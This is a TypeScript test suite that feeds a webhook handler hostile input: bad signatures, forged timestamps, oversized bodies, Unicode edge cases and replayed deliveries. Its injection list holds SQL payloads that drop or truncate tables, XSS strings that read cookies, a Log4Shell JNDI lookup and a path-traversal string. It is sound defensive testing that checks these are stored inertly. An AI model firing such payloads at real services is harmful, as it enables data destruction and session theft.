/**
 * The hostile-input corpus: bad headers, signatures, timestamps, bodies, shapes, very
 * long strings, Unicode of every kind, SQL and HTML in every string field, every
 * method, and replays. Each case asserts the status, the message, the
 * `webhook-delivery: abort-message` decision, what the database holds for the user and
 * message the request names (unchanged when refused, exactly the payload when
 * accepted), and that the function still serves a valid delivery afterwards.
 *
 * Other files share the stack, so nothing here compares global counts.
 */
import { afterAll, describe, expect, inject, it } from "vitest";
import { envelope, userJSON } from "../../scripts/simulator/payloads.ts";
import { storableText } from "../../supabase/functions/_shared/text.ts";
import { clerkId, database, newMessage, post, testSecrets } from "../support/clients.ts";
import { writeFigures } from "./support/figures.ts";
import { hmac, type RawRequest, sendRaw, signedRequest, withHeaders } from "./support/requests.ts";

const stack = inject("stack");
const db = database(stack);
const secret = testSecrets.current;
const tag = Date.now().toString(36).slice(-5);
let serial = 0;

/** A user id and message id that only this case uses. */
function names() {
  serial++;
  return { userId: `user_hostile${tag}${serial}`, svixId: `msg_hostile${tag}${serial}` };
}

type Expected =
  | { status: 400 | 405 | 413; error: RegExp | null; abort: boolean }
  | { status: 200; outcome: "applied" | "ignored" | "duplicate"; stored?: (row: Row) => void };

interface Row {
  profile: Record<string, unknown> | null;
  ledger: Record<string, unknown> | null;
}

interface Case {
  name: string;
  build: (n: { userId: string; svixId: string }) => RawRequest | Promise<RawRequest>;
  expected: Expected;
}

const classes = new Map<string, Case[]>();
function caseClass(name: string, cases: Case[]) {
  classes.set(name, cases);
}

const tally: Record<string, { cases: number; refused: number; accepted: number; statuses: Record<string, number> }> = {};

async function snapshot(userId: string, svixId: string): Promise<Row> {
  const { rows } = await db.query(
    `select (select row_to_json(p) from profiles p where clerk_id = $1) as profile,
            (select row_to_json(e) from clerk_events e where svix_id = $2) as ledger`,
    [userId, svixId],
  );
  return rows[0];
}

/** A valid delivery after every case: the function keeps serving. */
async function canary() {
  const { status, body } = await post(stack, newMessage(envelope("user.created", userJSON())));
  expect({ status, body }, "a valid delivery after the case").toEqual({ status: 200, body: { outcome: "applied" } });
}

function user(userId: string, overrides: Record<string, unknown> = {}) {
  return { ...userJSON({ id: userId, firstName: "Hostile", lastName: "Case", username: `h${userId.slice(-8)}` }), ...overrides };
}
const body = (userId: string, overrides: Record<string, unknown> = {}) => JSON.stringify(envelope("user.created", user(userId, overrides)));
const signed = (text: string | Uint8Array, svixId: string, extra: Partial<Parameters<typeof signedRequest>[1]> = {}) =>
  signedRequest(text, { id: svixId, secret, ...extra });

const refused = (status: 400 | 405 | 413, error: RegExp | null, abort = false): Expected => ({ status, error, abort });
const invalid = (error: RegExp): Expected => refused(400, error, true);
const applied = (stored?: (row: Row) => void): Expected => ({ status: 200, outcome: "applied", stored });

// ---------------------------------------------------------------------------------
// Headers
const headerNames = ["id", "timestamp", "signature"] as const;
caseClass("headers", [
  ...(["svix", "webhook"] as const).flatMap((style) =>
    headerNames.map((missing): Case => ({
      name: `${style}-${missing} missing`,
      build: (n) => withHeaders(signed(body(n.userId), n.svixId, { style }), { [`${style}-${missing}`]: null }),
      expected: refused(400, new RegExp(`^missing svix-${missing} header$`)),
    }))),
  ...headerNames.map((empty): Case => ({
    name: `svix-${empty} empty`,
    build: (n) => withHeaders(signed(body(n.userId), n.svixId), { [`svix-${empty}`]: "" }),
    expected: refused(400, new RegExp(`^missing svix-${empty} header$`)),
  })),
  {
    name: "all three svix-* headers empty",
    build: (n) => withHeaders(signed(body(n.userId), n.svixId), { "svix-id": "", "svix-timestamp": "", "svix-signature": "" }),
    expected: refused(400, /^missing svix-id, svix-timestamp, svix-signature header$/),
  },
  {
    name: "a wrong svix-signature beside a right webhook-signature (svix-* names win)",
    build: (n) => {
      const right = signed(body(n.userId), n.svixId, { style: "webhook" });
      return withHeaders(right, { "svix-id": n.svixId, "svix-timestamp": right.headers["webhook-timestamp"], "svix-signature": junk(0) });
    },
    expected: refused(400, /^no matching signature/),
  },
  {
    name: "svix-id changed after signing",
    build: (n) => withHeaders(signed(body(n.userId), n.svixId), { "svix-id": `${n.svixId}x` }),
    expected: refused(400, /^no matching signature/),
  },
]);

// ---------------------------------------------------------------------------------
// Timestamps
const withTimestamp = (value: string): Case["build"] => (n) => {
  const text = body(n.userId);
  return withHeaders(signed(text, n.svixId), { "svix-timestamp": value, "svix-signature": `v1,${hmac(secret, n.svixId, value, text)}` });
};
caseClass("timestamps", [
  ...["12.5", "abc", "1e9", "-1", "0x6543a1b2", "+1790000000", "1790000000000", "1 790 000 000"].map((value): Case => ({
    name: `"${value}" as the timestamp (signed over that value)`,
    build: withTimestamp(value),
    expected: refused(400, /^svix-timestamp is not a Unix time in seconds$/),
  })),
  ...[["10 minutes old", -600], ["10 minutes in the future", 600], ["301 s old", -301], ["301 s in the future", 301], ["at the Unix epoch", null]].map(
    ([name, offset]): Case => ({
      name: `a timestamp ${name}`,
      build: offset === null ? withTimestamp("0") : (n) => signed(body(n.userId), n.svixId, { offset: offset as number }),
      expected: refused(400, /^svix-timestamp is outside the 5-minute tolerance/),
    }),
  ),
  ...[["290 s old", -290], ["290 s in the future", 290]].map(([name, offset]): Case => ({
    name: `a timestamp ${name} is inside the tolerance and accepted`,
    build: (n) => signed(body(n.userId), n.svixId, { offset: offset as number }),
    expected: applied(),
  })),
]);

// ---------------------------------------------------------------------------------
// Signatures
const withSignature = (make: (valid: string, n: { userId: string; svixId: string }) => string): Case["build"] => (n) => {
  const request = signed(body(n.userId), n.svixId);
  return withHeaders(request, { "svix-signature": make(request.headers["svix-signature"].slice(3), n) });
};
const junk = (i: number) => `v1,${Buffer.from(`junk-signature-${i}`.padEnd(32, "x")).toString("base64")}`;
caseClass("signatures", [
  { name: "signed with the wrong secret", build: (n) => signedRequest(body(n.userId), { id: n.svixId, secret: "whsec_d3Jvbmctc2VjcmV0LXdyb25nLXNlY3JldA==" }), expected: refused(400, /^no matching signature/) },
  { name: "truncated by 4 characters", build: withSignature((sig) => `v1,${sig.slice(0, -4)}`), expected: refused(400, /^no matching signature/) },
  { name: "truncated to its version prefix", build: withSignature(() => "v1,"), expected: refused(400, /^no matching signature/) },
  { name: "version prefix v2,", build: withSignature((sig) => `v2,${sig}`), expected: refused(400, /^no matching signature/) },
  { name: "version prefix v1a,", build: withSignature((sig) => `v1a,${sig}`), expected: refused(400, /^no matching signature/) },
  { name: "version prefix V1, (upper case)", build: withSignature((sig) => `V1,${sig}`), expected: refused(400, /^no matching signature/) },
  { name: "no version prefix", build: withSignature((sig) => sig), expected: refused(400, /^no matching signature/) },
  { name: "base64url instead of base64", build: withSignature((sig) => `v1,${sig.replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "")}`), expected: refused(400, /^no matching signature/) },
  { name: "the signature of another message id", build: withSignature((_, n) => `v1,${hmac(secret, `${n.svixId}2`, String(Math.floor(Date.now() / 1000)), body(n.userId))}`), expected: refused(400, /^no matching signature/) },
  { name: "200 wrong signatures", build: withSignature(() => Array.from({ length: 200 }, (_, i) => junk(i)).join(" ")), expected: refused(400, /^no matching signature/) },
  { name: "200 wrong signatures, then the right one (accepted, as during a rotation)", build: withSignature((sig) => [...Array.from({ length: 200 }, (_, i) => junk(i)), `v1,${sig}`].join(" ")), expected: applied() },
  { name: "the right signature among empty and malformed entries", build: withSignature((sig) => `  v1 , ,v1,  garbage v1,${sig}  v2,xyz`), expected: applied() },
]);

// ---------------------------------------------------------------------------------
// Body bytes
const tamper = (change: (text: string) => string): Case["build"] => (n) => {
  const request = signed(body(n.userId), n.svixId);
  return { ...request, body: change(request.body as string) };
};
const limit = 1024 * 1024;
/** A user.created of exactly `size` bytes (ASCII), padded in last_name. */
const sizedBody = (userId: string, size: number) => {
  const base = body(userId, { last_name: "" });
  return base.replace('"last_name":""', `"last_name":"${"x".repeat(size - base.length)}"`);
};
caseClass("body", [
  { name: "one byte changed at the start after signing", build: tamper((t) => `[${t.slice(1)}`), expected: refused(400, /^no matching signature/) },
  { name: "one byte changed in the middle after signing", build: tamper((t) => t.replace("Hostile", "Hostilf")), expected: refused(400, /^no matching signature/) },
  { name: "one byte changed at the end after signing", build: tamper((t) => `${t.slice(0, -1)} `), expected: refused(400, /^no matching signature/) },
  { name: "a newline appended after signing", build: tamper((t) => `${t}\n`), expected: refused(400, /^no matching signature/) },
  { name: "re-serialised (pretty-printed) after signing", build: tamper((t) => JSON.stringify(JSON.parse(t), null, 2)), expected: refused(400, /^no matching signature/) },
  { name: "an empty body with a signature for another body", build: tamper(() => ""), expected: refused(400, /^no matching signature/) },
  { name: "a UTF-8 byte-order mark before signed JSON", build: (n) => signed(new Uint8Array([0xef, 0xbb, 0xbf, ...Buffer.from(body(n.userId))]), n.svixId), expected: refused(400, /^no matching signature/) },
  { name: "signed bytes that are not UTF-8", build: (n) => signed(new Uint8Array([...Buffer.from(body(n.userId).slice(0, -2)), 0xff, 0xfe, 0x7d]), n.svixId), expected: refused(400, /^body is not UTF-8$/) },
  { name: "a signed body of exactly the 1 MiB limit (accepted)", build: (n) => signed(sizedBody(n.userId, limit), n.svixId), expected: applied((row) => expect((row.profile!.last_name as string).length).toBeGreaterThan(limit - 2000)) },
  { name: "a signed body one byte over the 1 MiB limit", build: (n) => signed(sizedBody(n.userId, limit + 1), n.svixId), expected: refused(413, /^body is larger than 1048576 bytes$/) },
]);

// ---------------------------------------------------------------------------------
// Signed, but not JSON, or JSON of the wrong shape: 400 + abort-message (retrying the
// same bytes cannot help).
const shape = (name: string, make: (userId: string) => unknown, error: RegExp): Case => ({
  name,
  build: (n) => signed(typeof make(n.userId) === "string" ? (make(n.userId) as string) : JSON.stringify(make(n.userId)), n.svixId),
  expected: invalid(error),
});
const created = (userId: string, data: Record<string, unknown>) => ({ ...envelope("user.created", user(userId)), data: { ...user(userId), ...data } });
caseClass("not JSON", [
  shape("a truncated object", () => '{"type":"user.created","data":{', /^body is not JSON$/),
  shape("JSON with trailing garbage", (u) => `${body(u)} trailing`, /^body is not JSON$/),
  shape("NaN", () => "NaN", /^body is not JSON$/),
  shape("single-quoted JSON", () => "{'type':'user.created','data':{}}", /^body is not JSON$/),
  shape("null", () => "null", /^body must be a JSON object$/),
  shape("an array", (u) => `[${body(u)}]`, /^body must be a JSON object$/),
  shape("a string", () => '"user.created"', /^body must be a JSON object$/),
  shape("a number", () => "42", /^body must be a JSON object$/),
  shape("true", () => "true", /^body must be a JSON object$/),
]);
caseClass("wrong shape", [
  shape("no type", (u) => ({ data: user(u) }), /type must be a non-empty string/),
  shape("type is a number", (u) => ({ type: 1, data: user(u) }), /type must be a non-empty string/),
  shape("type is an array", (u) => ({ type: ["user.created"], data: user(u) }), /type must be a non-empty string/),
  shape("type is empty", (u) => ({ type: "", data: user(u) }), /type must be a non-empty string/),
  shape("type is 129 characters", (u) => ({ type: "x".repeat(129), data: user(u) }), /type must be a non-empty string/),
  shape("no data", () => ({ type: "user.created", timestamp: Date.now() }), /data must be an object/),
  shape("data is null", () => ({ type: "user.created", data: null }), /data must be an object/),
  shape("data is a string", () => ({ type: "user.created", data: "user_1" }), /data must be an object/),
  shape("data is an array", (u) => ({ type: "user.created", data: [user(u)] }), /data must be an object/),
  shape("user.created without data.id", (u) => created(u, { id: undefined }), /data.id must be a string of 1 to 128 characters/),
  shape("data.id is a number", (u) => created(u, { id: 42 }), /data.id must be a string/),
  shape("data.id is an array", (u) => created(u, { id: [u] }), /data.id must be a string/),
  shape("data.id is an object", (u) => created(u, { id: { id: u } }), /data.id must be a string/),
  shape("data.id is empty", (u) => created(u, { id: "" }), /data.id must be a string/),
  shape("data.id is 129 characters", (u) => created(u, { id: `${u}${"x".repeat(129 - u.length)}` }), /data.id must be a string/),
  shape("user.deleted without data.id", () => envelope("user.deleted", { object: "user", deleted: true }), /data.id must be a string/),
  shape("email_addresses is an object", (u) => created(u, { email_addresses: { id: "idn_1" } }), /email_addresses is not an array/),
  shape("public_metadata is an array", (u) => created(u, { public_metadata: ["admin"] }), /public_metadata must be an object/),
  shape("first_name is a number", (u) => created(u, { first_name: 7 }), /first_name must be a string or null/),
  shape("username is an object", (u) => created(u, { username: { $ne: null } }), /username must be a string or null/),
  shape("created_at is a string", (u) => created(u, { created_at: "2026-01-01" }), /created_at must be Unix milliseconds/),
  shape("timestamp is a string", (u) => ({ ...created(u, {}), timestamp: String(Date.now()) }), /timestamp must be Unix milliseconds/),
  shape("no timestamp and no updated_at", (u) => ({ type: "user.updated", data: { ...user(u), updated_at: undefined } }), /neither timestamp nor data.updated_at/),
  // Found by this corpus: each used to answer 500 on every retry (see poison.test.ts).
  shape("timestamp in the year 275760", (u) => ({ ...created(u, {}), timestamp: 8.64e15 }), /between the years 1 and 9999/),
  shape("updated_at in the year -271821, no timestamp", (u) => ({ type: "user.updated", data: { ...user(u), updated_at: -8.64e15 } }), /between the years 1 and 9999/),
  shape("public_metadata nested 10,000 levels", (u) => `${body(u).replace('"public_metadata":{}', `"public_metadata":{"x":${"[".repeat(10_000)}${"]".repeat(10_000)}}`)}`, /JSON nests deeper than 64 levels/),
  {
    name: "a svix-id of 3,000 characters (signed)",
    build: (n) => signed(body(n.userId), `${n.svixId}${"x".repeat(3000)}`),
    expected: invalid(/^svix-id is longer than 256 characters$/),
  },
]);

// Accepted oddities: what Clerk could really send, or what costs nothing to store.
caseClass("accepted oddities", [
  {
    name: "unsafe_metadata nested 10,000 levels (end users write it): synced, and not kept in the ledger",
    build: (n) => signed(body(n.userId).replace('"unsafe_metadata":{}', `"unsafe_metadata":{"x":${"[".repeat(10_000)}${"]".repeat(10_000)}}`), n.svixId),
    expected: applied((row) => {
      expect(row.profile).toMatchObject({ first_name: "Hostile" });
      expect(row.ledger!.payload).not.toHaveProperty("data.unsafe_metadata");
    }),
  },
  {
    name: "an unknown type with an empty data object is recorded as ignored",
    build: (n) => signed(JSON.stringify({ type: "hostile.unknown", data: {} }), n.svixId),
    expected: { status: 200, outcome: "ignored", stored: (row) => expect(row.ledger).toMatchObject({ outcome: "ignored", type: "hostile.unknown" }) },
  },
  {
    name: "a __proto__ key in public_metadata is stored as plain data",
    build: (n) => signed(body(n.userId).replace('"public_metadata":{}', '"public_metadata":{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'), n.svixId),
    expected: applied((row) => {
      expect(row.profile!.public_metadata).toEqual(JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'));
      expect(({} as Record<string, unknown>).admin).toBeUndefined();
    }),
  },
]);

// ---------------------------------------------------------------------------------
// Very long strings: stored whole (the body limit is the only limit), read back equal.
const long = (n: number, unit = "a") => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
caseClass("long strings", [
  ...(["first_name", "last_name", "username", "image_url"] as const).map((field): Case => ({
    name: `${field} of 200,000 characters`,
    build: (n) => signed(body(n.userId, { [field]: long(200_000, "Zoë🧪") }), n.svixId),
    expected: applied((row) => expect(row.profile![field]).toBe(long(200_000, "Zoë🧪"))),
  })),
  {
    name: "an email address of 200,000 characters",
    build: (n) => {
      const u = user(n.userId);
      u.email_addresses[0].email_address = `${long(200_000)}@example.com`;
      return signed(JSON.stringify(envelope("user.created", u)), n.svixId);
    },
    expected: applied((row) => expect(row.profile!.email).toBe(`${long(200_000)}@example.com`)),
  },
  {
    name: "a public_metadata value of 200,000 characters and 5,000 keys",
    build: (n) => signed(body(n.userId, { public_metadata: { big: long(200_000), ...Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`k${i}`, i])) } }), n.svixId),
    expected: applied((row) => expect(Object.keys(row.profile!.public_metadata as object)).toHaveLength(5001)),
  },
  {
    name: "an instance_id of 200,000 characters",
    build: (n) => signed(JSON.stringify({ ...envelope("user.created", user(n.userId)), instance_id: long(200_000) }), n.svixId),
    expected: applied((row) => expect(row.ledger!.instance_id).toBe(long(200_000))),
  },
  {
    name: "a data.id of exactly 128 characters",
    build: (n) => signed(body(n.userId, { id: `${n.userId}${"x".repeat(128 - n.userId.length)}` }), n.svixId),
    expected: { status: 200, outcome: "applied" },
  },
  {
    name: "a svix-id of exactly 256 characters",
    build: (n) => signed(body(n.userId), `${n.svixId}${"x".repeat(256 - n.svixId.length)}`),
    expected: applied(),
  },
]);

// ---------------------------------------------------------------------------------
// Unicode of every kind, in every string field: stored as sent, except what PostgreSQL
// text cannot hold (NUL, lone surrogates), which becomes U+FFFD.
const unicode: Array<[string, string]> = [
  ["NUL", "a\u0000b"],
  ["a lone high surrogate", "a\uD800b"],
  ["a lone low surrogate", "a\uDC00b"],
  ["a reversed surrogate pair", "a\uDC00\uD800b"],
  ["C0 controls", Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join("")],
  ["DEL and C1 controls", "\u007F" + Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join("")],
  ["a byte-order mark and zero-width characters", "\uFEFFa\u200Bb\u200Cc\u200Dd\u2060"],
  ["the noncharacters U+FFFE and U+FFFF", "\uFFFE\uFFFF\u{10FFFF}"],
  ["right-to-left override", "\u202Egnp.exe\u202C"],
  ["line and paragraph separators", "a\u2028b\u2029c"],
  ["a family emoji (ZWJ sequence) and flags", "👨‍👩‍👧‍👦🇸🇪🏳️‍🌈"],
  ["combining marks (Zalgo)", "Z̴̡̛͍̈́a̷̧̛̝͐l̶̰̈g̸̱̈́o̵͙͊"],
  ["NFD and NFC forms of é", "e\u0301 \u00E9"],
  ["CJK, Arabic, Devanagari, Hangul", "漢字 العربية देवनागरी 한국어"],
  ["astral characters (math, Linear B, tags)", "𝕳𝖊𝖑𝖑𝖔 𐀀 \u{E0041}\u{E007F}"],
  ["private use", "\uE000\u{F0000}\u{10FFFD}"],
  ["fullwidth and halfwidth forms", "ＡＢＣ ｶﾀｶﾅ"],
  ["variation selectors", "✌\uFE0F ✌\uFE0E"],
];
const stringFields = (s: string, userId: string) => {
  const u = user(userId, { first_name: s, last_name: s, username: s, image_url: `https://img.example/${s}`, public_metadata: { [s]: s, nested: [s, { [s]: s }] } });
  u.email_addresses[0].email_address = `${s}@example.com`;
  return u;
};
caseClass("unicode", [
  ...unicode.map(([name, s]): Case => ({
    name: `${name} in every string field`,
    build: (n) => signed(JSON.stringify({ ...envelope("user.created", stringFields(s, n.userId)), instance_id: s }), n.svixId),
    expected: applied((row) => {
      const t = storableText(s);
      expect(row.profile).toMatchObject({ first_name: t, last_name: t, username: t, image_url: `https://img.example/${t}`, email: `${t}@example.com`, public_metadata: { [t]: t, nested: [t, { [t]: t }] } });
      expect(row.ledger).toMatchObject({ instance_id: t });
    }),
  })),
  {
    name: "NUL and a lone surrogate in data.id become U+FFFD in the stored id",
    build: (n) => signed(body(n.userId, { id: `${n.userId}\u0000\uD800` }), n.svixId),
    expected: { status: 200, outcome: "applied", stored: (row) => expect(row.ledger!.object_id).toMatch(/\uFFFD\uFFFD$/) },
  },
  {
    name: "Latin-1 bytes in the svix-id header are read as Latin-1 and the signature still matches",
    build: (n) => signed(body(n.userId), `${n.svixId}é`),
    expected: applied(),
  },
]);

// ---------------------------------------------------------------------------------
// SQL and HTML in every string field: stored verbatim, never executed, never escaped.
const injections = [
  "'; drop table public.profiles; --",
  "' or '1'='1",
  "\"; select pg_sleep(5); --",
  "$$; delete from public.clerk_events; $$",
  "') on conflict do nothing; --",
  "\\'; truncate public.profiles cascade; --",
  "1); update public.profiles set email = 'pwned@example.com'; --",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "\"><svg onload=alert(1)>",
  "javascript:alert(1)",
  "{{7*7}} ${7*7} <%= 7*7 %>",
  "${jndi:ldap://example.invalid/a}",
  "../../../../etc/passwd",
];
caseClass("sql and html", injections.map((s): Case => ({
  name: `${JSON.stringify(s)} in every string field, the message id and the instance id`,
  build: (n) => {
    const u = stringFields(s, `${n.userId}${s}`.slice(0, 128));
    u.email_addresses[0].id = `idn_${s}`;
    u.primary_email_address_id = `idn_${s}`;
    return signed(JSON.stringify({ ...envelope("user.created", u), instance_id: s }), `${n.svixId}${s}`);
  },
  expected: applied((row) => {
    expect(row.profile).toMatchObject({ first_name: s, last_name: s, username: s, image_url: `https://img.example/${s}`, email: `${s}@example.com`, public_metadata: { [s]: s, nested: [s, { [s]: s }] } });
    expect(row.ledger).toMatchObject({ instance_id: s, object_id: row.profile!.clerk_id });
  }),
})));

// ---------------------------------------------------------------------------------
// Methods
caseClass("methods", [
  ...["GET", "HEAD", "OPTIONS", "DELETE"].map((method): Case => ({
    name: method,
    build: () => ({ method, headers: {} }),
    expected: refused(405, method === "HEAD" ? null : /^use POST$/),
  })),
  ...["PUT", "PATCH", "PURGE", "PROPFIND"].map((method): Case => ({
    name: `${method} with a validly signed body`,
    build: (n) => ({ ...signed(body(n.userId), n.svixId), method }),
    expected: refused(405, /^use POST$/),
  })),
  {
    // Node's HTTP parser (the local gateway) knows a fixed list of methods and answers
    // 400 to any other before the function sees it; the function itself answers 405.
    name: "an invented method (FOO) with a validly signed body",
    build: (n) => ({ ...signed(body(n.userId), n.svixId), method: "FOO" }),
    expected: refused(400, null),
  },
]);

// ---------------------------------------------------------------------------------
// Replay: a delivery captured off the wire and sent again.
const captured = new Map<string, RawRequest>();
async function capture(n: { userId: string; svixId: string }, offset = 0): Promise<RawRequest> {
  const request = signed(body(n.userId), n.svixId, { offset });
  if (offset === 0) {
    const first = await sendRaw(stack.webhookUrl, request);
    expect(first.json).toEqual({ outcome: "applied" });
  }
  captured.set(n.svixId, request);
  return request;
}
caseClass("replay", [
  {
    name: "the captured request sent again inside the window is a duplicate and changes nothing",
    build: (n) => capture(n),
    expected: { status: 200, outcome: "duplicate", stored: (row) => expect(row.ledger).toMatchObject({ outcome: "applied", duplicates: 1, attempts: 1 }) },
  },
  {
    // A captured request's timestamp is its capture time; replaying it 301 s later is
    // exactly a request whose timestamp is 301 s old.
    name: "the captured request replayed after the 5-minute window",
    build: (n) => capture(n, -301),
    expected: refused(400, /^svix-timestamp is outside the 5-minute tolerance/),
  },
  {
    name: "the captured request with a fresh timestamp and the old signature",
    build: async (n) => withHeaders(await capture(n), { "svix-timestamp": String(Math.floor(Date.now() / 1000) + 1) }),
    expected: refused(400, /^no matching signature/),
  },
  {
    name: "the captured request under a new svix-id, to dodge the duplicate check",
    build: async (n) => {
      const request = await capture(n);
      return withHeaders(request, { "svix-id": clerkId("msg") });
    },
    expected: refused(400, /^no matching signature/),
  },
]);

// Replays of an applied message already have rows; for them "unchanged" means the row
// as it was before the replay, apart from the duplicate count.
describe.each([...classes.entries()])("hostile input: %s", (className, cases) => {
  it.each(cases.map((c) => [c.name, c] as const))("%s", async (_, hostile) => {
    const n = names();
    const request = await hostile.build(n);
    const svixId = request.headers["svix-id"] ?? request.headers["webhook-id"] ?? n.svixId;
    const userId = ((): string => {
      try {
        const id = JSON.parse(typeof request.body === "string" ? request.body : "")?.data?.id;
        return typeof id === "string" ? storableText(id) : n.userId;
      } catch {
        return n.userId;
      }
    })();
    const before = await snapshot(userId, svixId);
    const started = Date.now();
    const response = await sendRaw(stack.webhookUrl, request);
    const after = await snapshot(userId, svixId);

    const entry = (tally[className] ??= { cases: 0, refused: 0, accepted: 0, statuses: {} });
    entry.cases++;
    entry.statuses[response.status] = (entry.statuses[response.status] ?? 0) + 1;
    const expected = hostile.expected;
    expect(response.status, response.text.slice(0, 300)).toBe(expected.status);
    if (expected.status === 200) {
      entry.accepted++;
      expect(response.json).toEqual({ outcome: expected.outcome });
      expect(response.headers.get("webhook-delivery")).toBeNull();
      if (expected.outcome === "applied") {
        expect(after.ledger, "the message is in the ledger").toMatchObject({ svix_id: storableText(svixId), outcome: "applied" });
      }
      expected.stored?.(after);
    } else {
      entry.refused++;
      const error = (response.json as { error?: string } | null)?.error ?? "";
      if (expected.abort) {
        expect(error).toMatch(/^invalid event: /);
        if (expected.error) expect(error.slice("invalid event: ".length)).toMatch(expected.error);
      } else if (expected.error) {
        expect(error).toMatch(expected.error);
      }
      expect(response.headers.get("webhook-delivery")).toBe(expected.abort ? "abort-message" : null);
      expect(after, "the database is unchanged for the user and message it names").toEqual(before);
    }
    // pg_sleep(5) in a string must never run.
    expect(Date.now() - started).toBeLessThan(5000);
    await canary();
  });
});

describe("after the whole corpus", () => {
  it("the tables the injections named still exist and the function still serves", async () => {
    const { rows } = await db.query("select to_regclass('public.profiles') is not null as profiles, to_regclass('public.clerk_events') is not null as ledger");
    expect(rows[0]).toEqual({ profiles: true, ledger: true });
    await canary();
  });
});

afterAll(async () => {
  const total = Object.values(tally).reduce((n, t) => n + t.cases, 0);
  await writeFigures("hostile", { cases: total, classes: tally });
  console.log(`hostile: ${total} cases ${JSON.stringify(tally)}`);
});
